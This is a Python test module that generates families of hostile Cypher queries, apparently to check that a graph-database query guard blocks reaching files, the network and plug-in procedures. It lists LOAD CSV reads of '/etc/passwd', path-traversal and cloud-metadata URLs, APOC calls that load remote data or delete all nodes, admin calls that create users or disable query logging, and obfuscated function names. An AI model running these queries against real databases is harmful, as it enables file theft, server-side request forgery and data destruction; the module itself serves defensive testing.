"""Families that reach out of the graph: files, the network, procedures and functions of plug-ins."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from types import MappingProxyType

from tests.hostile.attacks import Canary, Family

_VOID_PROCEDURES = (
    "db.clearQueryCaches()",
    "db.prepareForReplanning()",
    "db.awaitIndexes(300)",
    "db.awaitIndex('i', 300)",
    "db.resampleIndex('i')",
    "db.resampleOutdatedIndexes()",
    "db.createLabel('Hacked')",
    "db.createProperty('hacked')",
    "db.createRelationshipType('HACKED')",
    "db.checkpoint()",
    "db.stats.clear('QUERIES')",
    "db.stats.collect('QUERIES', {durationSeconds: 5})",
    "db.create.setNodeVectorProperty(null, 'e', [1.0])",
    "db.create.setRelationshipVectorProperty(null, 'e', [1.0])",
    "tx.setMetaData({user: 'root'})",
    "tx.getMetaData()",
    "dbms.setConfigValue('db.logs.query.enabled', 'OFF')",
    "dbms.killQuery('query-1')",
    "dbms.killQueries(['query-1'])",
    "dbms.killTransaction('neo4j-transaction-1')",
    "dbms.killConnection('bolt-1')",
    "dbms.security.createUser('eve', 'secret123', false)",
    "dbms.security.changePassword('secret123')",
    "dbms.security.clearAuthCache()",
    "dbms.quarantineDatabase('neo4j', true)",
    "dbms.upgrade()",
    "dbms.showCurrentUser()",
    "dbms.listConfig()",
    "dbms.listConfig('auth')",
    "dbms.listConnections()",
    "dbms.listCapabilities()",
    "dbms.listActiveLocks('query-1')",
    "dbms.queryJmx('*:*')",
    "dbms.info()",
    "dbms.components()",
    "dbms.procedures()",
    "dbms.functions()",
    "dbms.routing.getRoutingTable({}, 'neo4j')",
    "dbms.cluster.routing.getRoutingTable({})",
    "dbms.cluster.overview()",
    "dbms.scheduler.profile('x', 'y', '1s')",
    "dbms.scheduler.groups()",
    "dbms.scheduler.jobs()",
    "db.labels()",
    "db.relationshipTypes()",
    "db.propertyKeys()",
    "db.indexes()",
    "db.constraints()",
    "db.info()",
    "db.ping()",
    "db.schema.visualization()",
    "db.schema.nodeTypeProperties()",
    "db.schema.relTypeProperties()",
    "db.listLocks()",
    "db.stats.retrieve('GRAPH COUNTS')",
    "db.stats.retrieveAllAnTheStats('x')",
    "db.stats.status()",
)
_INDEX_PROCEDURES = (
    "db.index.fulltext.queryNodes('i', 'name:x')",
    "db.index.fulltext.queryRelationships('i', '*')",
    "db.index.fulltext.listAvailableAnalyzers()",
    "db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
    "db.index.fulltext.createNodeIndex('i', ['Person'], ['name'])",
    "db.index.fulltext.drop('i')",
    "db.index.vector.queryNodes('i', 3, [1.0])",
    "db.index.vector.queryRelationships('i', 3, $e)",
    "db.index.vector.createNodeIndex('i', 'Person', 'e', 4, 'cosine')",
    "genai.vector.encodeBatch(['x'], 'OpenAI', {token: 'x'})",
    "genai.vector.listEncodingProviders()",
    "vector.encodeBatch(['x'], 'OpenAI', {})",
    "ai.text.embedBatch(['x'], 'openai', {})",
)
_APOC_PROCEDURES = (
    "apoc.load.json('{url}')",
    "apoc.load.jsonParams('{url}', {{}}, null)",
    "apoc.load.xml('file://{file}')",
    "apoc.load.arrow('{url}')",
    "apoc.load.csv('file://{file}')",
    "apoc.load.jdbc('jdbc:mysql://{address}/x', 'users')",
    "apoc.load.html('{url}', {{a: 'a'}})",
    "apoc.load.directory('*')",
    "apoc.import.csv([], [], {{}})",
    "apoc.import.json('file://{file}')",
    "apoc.import.graphml('{url}', {{}})",
    "apoc.export.csv.all('{file}.out', {{}})",
    "apoc.export.json.all('{file}.out', {{stream: true}})",
    "apoc.export.cypher.all(null, {{stream: true}})",
    "apoc.export.graphml.query('MATCH (n) RETURN n', '{file}.out', {{}})",
    "apoc.cypher.run('MATCH (n) DETACH DELETE n', {{}})",
    "apoc.cypher.runMany('CREATE (n); CREATE (m);', {{}})",
    "apoc.cypher.doIt('CREATE (n)', {{}})",
    "apoc.cypher.runWrite('CREATE (n)', {{}})",
    "apoc.cypher.runSchema('DROP INDEX i', {{}})",
    "apoc.cypher.parallel('CREATE (n)', {{}}, 'x')",
    "apoc.cypher.runFile('file://{file}')",
    "apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {{batchSize: 100}})",
    "apoc.periodic.commit('MATCH (n) WITH n LIMIT 1 DELETE n RETURN count(*)', {{}})",
    "apoc.periodic.submit('x', 'CREATE (n)')",
    "apoc.periodic.repeat('x', 'CREATE (n)', 1)",
    "apoc.when(true, 'CREATE (n) RETURN n', '', {{}})",
    "apoc.do.when(true, 'CREATE (n) RETURN n', '', {{}})",
    "apoc.case([true, 'RETURN 1 AS x'], 'RETURN 2 AS x', {{}})",
    "apoc.do.case([true, 'CREATE (n)'], '', {{}})",
    "apoc.trigger.add('x', 'CREATE (n)', {{}})",
    "apoc.trigger.install('neo4j', 'x', 'CREATE (n)', {{}})",
    "apoc.create.node(['Hacked'], {{id: 'x'}})",
    "apoc.create.addLabels([], ['Hacked'])",
    "apoc.merge.node(['Hacked'], {{id: 'x'}}, {{}}, {{}})",
    "apoc.refactor.rename.label('Person', 'Hacked')",
    "apoc.nodes.delete([], 10)",
    "apoc.schema.assert({{}}, {{}})",
    "apoc.lock.all([], [])",
    "apoc.util.sleep(1000)",
    "apoc.util.validate(true, 'x', [])",
    "apoc.config.list()",
    "apoc.config.map()",
    "apoc.log.error('x', [])",
    "apoc.systemdb.graph()",
    "apoc.warmup.run()",
    "apoc.custom.asProcedure('x', 'CREATE (n)')",
    "apoc.bolt.execute('bolt://{address}', 'CREATE (n)', {{}})",
    "apoc.es.get('{address}', 'x', 'y', null, null, null)",
    "apoc.mongodb.get('mongodb://{address}', 'a', 'b', {{}})",
    "apoc.couchbase.get(['{address}'], 'b', 'c')",
    "apoc.model.jdbc('jdbc:mysql://{address}/x', {{}})",
    "apoc.help('load')",
    "apoc.meta.schema()",
    "apoc.path.expandConfig(null, {{maxLevel: -1}})",
    "apoc.static.getAll('x')",
)
_GDS_PROCEDURES = (
    "gds.graph.project('g', '*', '*')",
    "gds.graph.drop('g', false)",
    "gds.graph.list()",
    "gds.graph.export('g', {dbName: 'eve'})",
    "gds.graph.nodeProperties.write('g', ['x'])",
    "gds.pageRank.write('g', {writeProperty: 'x'})",
    "gds.pageRank.stream('g')",
    "gds.louvain.mutate('g', {mutateProperty: 'x'})",
    "gds.leiden.stats('g')",
    "gds.beta.node2vec.write('g', {writeProperty: 'x'})",
    "gds.alpha.backup({})",
    "gds.model.list()",
    "gds.debug.sysInfo()",
    "gds.version()",
)
_PLACES_OF_CALLS = (
    "CALL {p} YIELD *",
    "MATCH (n:Person) CALL {p} RETURN n",
    "MATCH (n:Person) CALL (n) {{ CALL {p} }} RETURN n",
    "OPTIONAL CALL {p}",
)
_URLS = (
    "file:///etc/passwd",
    "file://{file}",
    "FILE://{file}",
    "file:{file}",
    "file:///../../../../../../{file}",
    "file:///%2e%2e/%2e%2e{file}",
    "file://localhost{file}",
    "jar:file://{file}!/x",
    "http://{address}/x.csv",
    "HTTP://{address}/x",
    "https://{address}/x.csv",
    "http://user:word@{address}/x",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:9/x",
    "ftp://{address}/x.csv",
    "s3://bucket/x.csv",
    "gs://bucket/x.csv",
    "azb://account/bucket/x.csv",
)
_OUTSIDE_FUNCTIONS = (
    "file()",
    "linenumber()",
    "apoc.load.json('http://127.0.0.1:9')",
    "apoc.version()",
    "apoc.cypher.runFirstColumnSingle('MATCH (n) RETURN n', {})",
    "apoc.cypher.runFirstColumnMany('MATCH (n) DELETE n RETURN n', {})",
    "apoc.util.sha256(['x'])",
    "apoc.util.md5([n])",
    "apoc.convert.toJson(n)",
    "apoc.text.join(['a', 'b'], ',')",
    "apoc.create.uuid()",
    "apoc.create.vNode(['A'], {})",
    "apoc.static.get('x')",
    "apoc.trigger.nodesByLabel({}, 'x')",
    "apoc.custom.mine()",
    "custom.mine(1)",
    "gds.util.asNode(0)",
    "gds.graph.exists('g')",
    "gds.graph.project('g', n, n)",
    "gds.similarity.cosine([1.0], [2.0])",
    "gds.version()",
    "genai.vector.encode('x', 'OpenAI', {token: 'x'})",
    "ai.text.embed('x', 'openai', {})",
    "ai.text.completion('x', 'openai', {})",
    "vector.similarity.cosine([1.0], [2.0])",
    "vector.similarity.euclidean([1.0], [2.0])",
    "vector([1, 2, 3], 3, INTEGER)",
    "vector_distance([1.0], [2.0], EUCLIDEAN)",
    "db.nameFromElementId(elementId(n))",
    "graph.byName('other')",
    "graph.names()",
    "graph.propertiesByName('other')",
    "load_file('/etc/passwd')",
    "pg_read_file('/etc/passwd')",
    "read_csv('/etc/passwd')",
    "system('id')",
    "`apoc`.`version`()",
    "apoc . version ( )",
    "apoc/* */.version()",
    "`apoc.version`()",
)
_FUNCTION_PLACES = (
    "MATCH (n:Person) RETURN {f} AS x",
    "MATCH (n:Person) WHERE {f} = 1 RETURN n",
    "MATCH (n:Person) RETURN [y IN [1] | {f}] AS x",
    "MATCH (n:Person) RETURN n {{.id, x: {f}}} AS x",
)


def _load_csv(canary: Canary) -> Iterator[str]:
    for pattern in _URLS:
        url = pattern.format(file=canary.file, address=canary.address)
        yield f"LOAD CSV FROM '{url}' AS line RETURN line"
        yield f"LOAD CSV WITH HEADERS FROM \"{url}\" AS line FIELDTERMINATOR ';' RETURN line.a AS a"
    file, web = f"file://{canary.file}", f"http://{canary.address}/"
    half = len(file) // 2
    yield f"LOAD CSV FROM '{file[:half]}' + '{file[half:]}' AS line RETURN line"
    yield f"WITH '{web}' AS u LOAD CSV FROM u AS line RETURN line"
    yield f"WITH '{web}' AS u MATCH (n:Person) LOAD CSV FROM u + n.id AS line RETURN line"
    yield f"MATCH (n:Person) WITH collect(n.id) AS s LOAD CSV FROM '{web}' + head(s) AS line RETURN line"
    yield f"UNWIND ['{file}', '{web}'] AS u LOAD CSV FROM u AS line RETURN count(*) AS c"
    yield f"LOAD CSV FROM reduce(u = '', p IN ['{file[:half]}', '{file[half:]}'] | u + p) AS line RETURN line"
    yield f"LOAD CSV FROM CASE WHEN true THEN '{file}' END AS line RETURN line"
    yield f"LOAD CSV FROM replace('{file}', '#', '') AS line RETURN line"
    yield "LOAD CSV FROM $url AS line RETURN line"
    yield "LOAD CSV FROM $u + $v AS line RETURN line"
    yield f"CALL {{ LOAD CSV FROM '{file}' AS line RETURN line }} RETURN line"
    yield f"MATCH (n) WHERE EXISTS {{ LOAD CSV FROM '{web}' AS line RETURN line }} RETURN n"
    yield f"RETURN COUNT {{ LOAD CSV FROM '{file}' AS line RETURN line }} AS c"
    yield f"RETURN COLLECT {{ LOAD CSV FROM '{web}' AS line RETURN line }} AS c"
    yield f"RETURN 1 AS x UNION LOAD CSV FROM '{file}' AS x RETURN x"
    yield f"LOAD CSV FROM '{file}' AS line CREATE (:X {{v: line[0]}})"
    yield f"LOAD CSV FROM '{file}' AS line CALL (line) {{ CREATE (:X) }} IN TRANSACTIONS OF 500 ROWS"
    yield f"USING PERIODIC COMMIT 500 LOAD CSV FROM '{file}' AS line CREATE (:X)"
    yield f"MATCH (n) WITH n LIMIT 1 LOAD CSV FROM '{file}' AS line RETURN n, line, linenumber() AS l, file() AS f"


def _calls(procedures: tuple[str, ...]) -> Family:
    """Each procedure by itself, and every third in another of the places where a call may stand."""

    def texts(_: Canary) -> Iterator[str]:
        for i, name in enumerate(procedures):
            yield f"CALL {name}"
            if i % 3 == 0:
                yield _PLACES_OF_CALLS[i % len(_PLACES_OF_CALLS)].format(p=name)

    return texts


def _apoc(canary: Canary) -> Iterator[str]:
    for i, name in enumerate(_APOC_PROCEDURES):
        call = name.format(file=canary.file, address=canary.address, url=f"http://{canary.address}/x")
        yield f"CALL {call}"
        if i % 4 == 0:
            yield f"MATCH (n:Person) CALL {call} YIELD value RETURN value"


def _functions(_: Canary) -> Iterator[str]:
    for i, function in enumerate(_OUTSIDE_FUNCTIONS):
        yield _FUNCTION_PLACES[i % len(_FUNCTION_PLACES)].format(f=function)


FAMILIES: Mapping[str, Family] = MappingProxyType(
    {
        "load csv": _load_csv,
        "built-in procedures": _calls(_VOID_PROCEDURES),
        "index and vector procedures": _calls(_INDEX_PROCEDURES),
        "apoc procedures": _apoc,
        "gds procedures": _calls(_GDS_PROCEDURES),
        "functions from outside": _functions,
    }
)
